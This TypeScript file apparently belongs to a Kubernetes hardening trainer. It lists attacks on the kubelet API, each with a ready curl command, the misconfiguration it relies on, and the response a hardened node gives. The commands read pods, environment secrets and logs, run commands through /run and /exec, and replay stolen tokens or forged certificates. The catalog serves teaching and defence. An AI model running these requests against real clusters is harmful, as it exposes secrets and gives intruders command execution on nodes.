/**
 * A ready attack. `line` may name `{container}` (`namespace/pod/container`), `{token}` (a token file), `{intruder}` (the
 * options of a forged certificate) and `{node}` (those of the node's own); a node without the file is not offered it.
 */
export interface Attack {
  readonly id: string;
  readonly title: string;
  readonly says: string;
  readonly needs: string;
  readonly hardened: { readonly answer: string; readonly why: string };
  readonly line: string;
}

const STRANGER = { answer: '401', why: 'A stranger is nobody there.' } as const;
const OPEN_DOOR = 'Anonymous access, and an authorizer that lets strangers: AlwaysAllow, or a binding for them.';

/** Grouped by what the attacker holds. */
export const ATTACKS: readonly { readonly title: string; readonly attacks: readonly Attack[] }[] = [
  {
    title: 'With nothing in hand',
    attacks: [
      {
        id: 'anonymous-pods',
        title: 'Read every pod',
        says: 'Lists all pods of the node with their whole specs, passwords in plain environment variables included.',
        needs: OPEN_DOOR,
        hardened: STRANGER,
        line: 'curl -sk https://localhost:10250/pods',
      },
      {
        id: 'env-password',
        title: 'Read a password from a pod’s environment',
        says: 'Runs env in a container, which prints what came from Secrets too, and never stood in the spec.',
        needs: `${OPEN_DOOR} The container must have an env program.`,
        hardened: STRANGER,
        line: "curl -sk -X POST 'https://localhost:10250/run/{container}?cmd=env'",
      },
      {
        id: 'run',
        title: 'Run a command with /run',
        says: 'Runs one command in a container and answers with what it printed: the shortest way in. The command stands in the query; a body is not read.',
        needs: OPEN_DOOR,
        hardened: STRANGER,
        line: "curl -sk -X POST 'https://localhost:10250/run/{container}?cmd=id'",
      },
      {
        id: 'exec-post',
        title: 'Open a shell with /exec, by POST',
        says: 'Asks for the streams of a command, as kubectl exec does. 101 means that the door stands open.',
        needs: OPEN_DOOR,
        hardened: STRANGER,
        line: "curl -sk --http1.1 -X POST 'https://localhost:10250/exec/{container}?command=id&output=1' -H 'Connection: Upgrade' -H 'Upgrade: SPDY/3.1' -H 'X-Stream-Protocol-Version: v4.channel.k8s.io'",
      },
      {
        id: 'exec-get',
        title: 'Open a shell with /exec, by GET',
        says: 'A WebSocket begins with GET, so the verb that is asked about is get: a right to read is enough to run commands.',
        needs: `${OPEN_DOOR} With a credential: get on nodes/proxy.`,
        hardened: STRANGER,
        line: "curl -sk --http1.1 'https://localhost:10250/exec/{container}?command=id&output=1' -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: cG9ydHNpZGUtdHJhaW5lcg==' -H 'Sec-WebSocket-Protocol: v4.channel.k8s.io'",
      },
      {
        id: 'container-logs',
        title: 'Read a container’s log',
        says: 'Logs hold tokens, addresses and names of users more often than anybody means them to.',
        needs: OPEN_DOOR,
        hardened: STRANGER,
        line: 'curl -sk https://localhost:10250/containerLogs/{container}',
      },
      {
        id: 'host-logs',
        title: 'Read the node’s own logs',
        says: 'Lists /var/log of the host, far outside of any container.',
        needs: `${OPEN_DOOR} enableSystemLogHandler, which is on by default.`,
        hardened: STRANGER,
        line: 'curl -sk https://localhost:10250/logs/',
      },
    ],
  },
  {
    title: 'At the read-only port',
    attacks: [
      {
        id: 'read-only-pods',
        title: 'Read every pod at 10255',
        says: 'The same list, without TLS, from a port that asks nobody who they are.',
        needs: 'readOnlyPort 10255: the default of a start without --config.',
        hardened: { answer: 'refused', why: 'readOnlyPort is 0, so nothing listens.' },
        line: 'curl -s http://localhost:10255/pods',
      },
      {
        id: 'read-only-metrics',
        title: 'Read the figures at 10255',
        says: 'Names, images and load of every container: a map of the node for whoever plans the next step.',
        needs: 'readOnlyPort 10255: the default of a start without --config.',
        hardened: { answer: 'refused', why: 'readOnlyPort is 0, so nothing listens.' },
        line: 'curl -s http://localhost:10255/metrics/cadvisor',
      },
    ],
  },
  {
    title: 'With a credential, stolen or forged',
    attacks: [
      {
        id: 'stolen-token',
        title: 'Use a stolen ServiceAccount token',
        says: 'A token read from some pod, tried on the kubelet: what can its ServiceAccount do here?',
        needs: 'A token file. AlwaysAllow, or a binding that gives its ServiceAccount nodes/proxy or nodes/pods.',
        hardened: { answer: '403', why: 'It is known, and may not read pods here.' },
        line: 'curl -sk https://localhost:10250/pods -H "Authorization: Bearer $(cat {token})"',
      },
      {
        id: 'forged-certificate',
        title: 'Show a forged certificate',
        says: 'It claims to be the cluster’s administrator, and was signed by an authority of the attacker’s own.',
        needs: 'A kubelet without clientCAFile, which looks at no certificate, and lets strangers in besides.',
        hardened: { answer: '401', why: 'Its authority is not the cluster’s, so it proves nothing.' },
        line: 'curl -sk https://localhost:10250/pods {intruder}',
      },
      {
        id: 'node-credential',
        title: 'Use the node’s own certificate',
        says: 'Who is root on a node holds what the kubelet itself shows to the API server.',
        needs: 'Root on the node, and AlwaysAllow: system:nodes may use the API server, not a kubelet.',
        hardened: { answer: '403', why: 'A node is known, and may not call kubelets, its own included.' },
        line: 'curl -sk https://localhost:10250/pods {node}',
      },
    ],
  },
  {
    title: 'To look around first',
    attacks: [
      {
        id: 'configz',
        title: 'Read the configuration in force',
        says: 'Says which doors are open, and where keys and authorities lie.',
        needs: OPEN_DOOR,
        hardened: STRANGER,
        line: 'curl -sk https://localhost:10250/configz',
      },
      {
        id: 'flagz',
        title: 'Read the flags',
        says: 'Shows the command line’s flags and their defaults. What the file sets is not in it.',
        needs: `${OPEN_DOOR} The feature gate ComponentFlagz.`,
        hardened: STRANGER,
        line: 'curl -sk https://localhost:10250/flagz',
      },
      {
        id: 'pprof',
        title: 'Look into the process with pprof',
        says: 'Profiles show what the kubelet does; asked often enough, they slow it down.',
        needs: `${OPEN_DOOR} enableProfilingHandler, which is on by default.`,
        hardened: STRANGER,
        line: "curl -sk 'https://localhost:10250/debug/pprof/cmdline?debug=1'",
      },
    ],
  },
];
